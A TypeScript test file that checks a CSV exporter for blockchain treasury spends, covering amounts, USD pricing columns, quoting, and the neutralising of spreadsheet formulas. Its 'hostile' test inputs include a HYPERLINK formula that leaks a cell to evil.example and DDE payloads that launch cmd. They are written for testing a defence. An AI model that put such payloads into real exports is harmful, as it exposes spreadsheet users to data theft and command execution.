import { describe, expect, it } from 'vitest'
import { parse } from 'csv-parse/sync'
import { defuseFormula, SPEND_CSV_COLUMNS, spendsToCsv, toCsv } from './csv'
import type { Spend } from './types'

const ref = (chain: string, block: number, index: number, ts: string) => ({ id: `${chain}-${block}-${index}`, chain, blockNumber: block, eventIndex: index, timestamp: ts })

const spend: Spend = {
  id: 'relay-local-12',
  chain: 'relay',
  kind: 'Local',
  index: 12,
  status: 'Paid',
  asset: { id: 'native', symbol: 'DOT', decimals: 10, chain: 'relay' },
  amount: '12345678901234',
  nativeAmount: null,
  beneficiary: '15oF4uVJwmo4TdGW7VfQxNLavjCXviqxT9S1MgbjMNHr6Sp5',
  validFrom: null,
  expireAt: null,
  paymentId: null,
  approved: ref('relay', 100, 3, '2025-11-01T00:00:06.000Z'),
  paid: ref('relay', 200, 5, '2025-11-02T00:00:06.000Z'),
  closed: null,
  events: [],
  usdAtApproval: { microUsd: null, usd: null, source: 'unpriced:no DOT/USD price on or before 2025-11-01', day: null },
  usdAtPayout: { microUsd: null, usd: null, source: 'unpriced:no DOT/USD price on or before 2025-11-02', day: null },
  assetRate: null,
}

describe('spendsToCsv', () => {
  it('writes a header and one row per spend with exact and readable amounts', () => {
    const csv = spendsToCsv([spend])
    const lines = csv.trimEnd().split('\n')
    expect(lines[0]).toBe(SPEND_CSV_COLUMNS.join(','))
    expect(lines[1]).toBe(
      'relay-local-12,relay,Local,12,Paid,native,DOT,10,12345678901234,1234.5678901234,15oF4uVJwmo4TdGW7VfQxNLavjCXviqxT9S1MgbjMNHr6Sp5,,,relay-100-3,2025-11-01T00:00:06.000Z,relay-200-5,2025-11-02T00:00:06.000Z,,,,,,no DOT/USD price on or before 2025-11-01,,,,no DOT/USD price on or before 2025-11-02,,,',
    )
  })

  it('writes USD at approval and at payout with the source and day of each price, and the AssetRate read at approval', () => {
    const priced: Spend = {
      ...spend,
      asset: { id: 'assethub-assets:22', symbol: 'XYZ', decimals: 10, chain: 'asset-hub' },
      usdAtApproval: { microUsd: '1030002000', usd: '1030.002000', source: 'storage:AssetRate.ConversionRateToNative@105+reserves:DOT/USDT', day: '2025-11-01' },
      usdAtPayout: { microUsd: '1026666600', usd: '1026.666600', source: 'swaps:DOT/USDT', day: '2025-11-02' },
      assetRate: { rateToNative: '200000000000000000', block: 105, source: 'storage:AssetRate.ConversionRateToNative@105' },
    }
    const [row] = parse(spendsToCsv([priced]), { columns: true }) as Record<string, string>[]
    expect(row).toMatchObject({
      usd_at_approval: '1030.002000',
      usd_at_approval_source: 'storage:AssetRate.ConversionRateToNative@105+reserves:DOT/USDT',
      usd_at_approval_day: '2025-11-01',
      usd_at_approval_unpriced_reason: '',
      usd_at_payout: '1026.666600',
      usd_at_payout_source: 'swaps:DOT/USDT',
      usd_at_payout_day: '2025-11-02',
      usd_at_payout_unpriced_reason: '',
      asset_rate_to_native: '200000000000000000',
      asset_rate_block: '105',
      asset_rate_source: 'storage:AssetRate.ConversionRateToNative@105',
    })
    // an unpriced figure is empty, never 0, and says why
    const [unpriced] = parse(spendsToCsv([spend]), { columns: true }) as Record<string, string>[]
    expect(unpriced).toMatchObject({ usd_at_approval: '', usd_at_approval_source: '', usd_at_approval_unpriced_reason: 'no DOT/USD price on or before 2025-11-01', asset_rate_to_native: '' })
  })

  it("writes the beneficiary's People-chain name and best judgement beside it, defused like any chain text", () => {
    const identity = (name: string, judgement: string | null) => ({ address: spend.beneficiary, name, display: name, legal: null, web: null, matrix: null, email: null, twitter: null, judgement, judgements: [], parent: null, subName: null, blockNumber: 7, event: ref('people', 7, 0, '2025-11-01T00:00:00.000Z') })
    const rows = (identities: Parameters<typeof spendsToCsv>[1]) => parse(spendsToCsv([spend], identities), { columns: true }) as Record<string, string>[]
    expect(rows({ [spend.beneficiary]: identity('Alice Fdn/grants', 'Reasonable') })[0]).toMatchObject({ beneficiary: spend.beneficiary, beneficiary_name: 'Alice Fdn/grants', beneficiary_judgement: 'Reasonable' })
    // an identity is text its owner chose: a formula in it is defused
    expect(rows({ [spend.beneficiary]: identity('=HYPERLINK("x")', null) })[0]).toMatchObject({ beneficiary_name: `'=HYPERLINK("x")`, beneficiary_judgement: '' })
  })

  it('quotes what needs quoting (an XCM location beneficiary is JSON with commas and quotes)', () => {
    const beneficiary = '{"parents":0,"interior":{"__kind":"X1","value":[{"__kind":"Parachain","value":2004}]}}'
    const csv = spendsToCsv([{ ...spend, beneficiary, asset: { id: 'assethub-assets:1984', symbol: 'USDT', decimals: 6, chain: 'asset-hub' }, amount: '250000000000' }])
    const row = csv.trimEnd().split('\n')[1]
    // RFC 4180: the field is quoted and its quotes doubled
    expect(row).toContain(`,"${beneficiary.replaceAll('"', '""')}",`)
    expect(row).toContain(',USDT,6,250000000000,250000,')
  })

  it('writes only the header for no spends', () => {
    expect(spendsToCsv([])).toBe(SPEND_CSV_COLUMNS.join(',') + '\n')
  })
})

describe('CSV cells a spreadsheet would run as formulas', () => {
  const parseCsv = (csv: string) => parse(csv, { columns: true, relax_column_count: false }) as Record<string, string>[]

  // What an attacker controls: the beneficiary text (soon also identities and remarks)
  const hostile = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '+1+cmd|\' /C calc\'!A0',
    '-2+3+cmd|\' /C calc\'!A0',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '\t=1+1',
    '\r=1+1',
    '＝1+1', // full-width equals sign, evaluated by some spreadsheets too
  ]

  it('prefixes each leading =, +, -, @, tab and carriage return with a single quote, and keeps quoting exact', () => {
    const csv = spendsToCsv(hostile.map((beneficiary, i) => ({ ...spend, id: `relay-local-${i}`, index: i, beneficiary })))
    const rows = parseCsv(csv)
    expect(rows.map((r) => r.beneficiary)).toEqual(hostile.map((h) => `'${h}`))
    // every other cell of those rows is untouched
    expect(rows.map((r) => [r.index, r.amount_planck, r.amount])).toEqual(hostile.map((_, i) => [String(i), '12345678901234', '1234.5678901234']))
    // quotes doubled inside a quoted field, so the formula text cannot break out of its cell
    expect(csv).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`)
    expect(csv).toContain(`,"'\r=1+1",`)
  })

  it('leaves harmless text alone, also with embedded quotes, commas and newlines', () => {
    const texts = ['Alice "the payer", Inc.', 'line one\nline two', 'cr\r=1+1', 'a=b', 'x-1', " '=already quoted", '']
    const csv = toCsv(['text'], texts.map((t) => [t]))
    expect(parseCsv(csv).map((r) => r.text)).toEqual(texts)
    // a carriage return inside a cell is quoted, so no spreadsheet starts a new row (and a formula) after it
    expect(csv).toContain('\n"cr\r=1+1"\n')
  })

  it('keeps negative and positive numbers as numbers: strings of digits, numbers and bigints', () => {
    const csv = toCsv(['planck', 'units', 'number', 'bigint'], [
      ['-12345678901234', '-1234.5678901234', -42, -(10n ** 30n)],
      ['0', '0.5', 7.25, 10n ** 20n],
    ])
    expect(csv).toBe('planck,units,number,bigint\n-12345678901234,-1234.5678901234,-42,-1000000000000000000000000000000\n0,0.5,7.25,100000000000000000000\n')
  })

  it('a negative spend amount stays a number in both amount columns', () => {
    const [row] = parseCsv(spendsToCsv([{ ...spend, amount: '-12345678901234' }]))
    expect([row.amount_planck, row.amount]).toEqual(['-12345678901234', '-1234.5678901234'])
  })

  it('defuseFormula on each leading character', () => {
    expect(['=1', '+1', '-x', '@x', '\tx', '\rx'].map(defuseFormula)).toEqual(["'=1", "'+1", "'-x", "'@x", "'\tx", "'\rx"])
    expect(['-1', '-0.25', '1e5', 'DOT'].map(defuseFormula)).toEqual(['-1', '-0.25', '1e5', 'DOT'])
  })
})
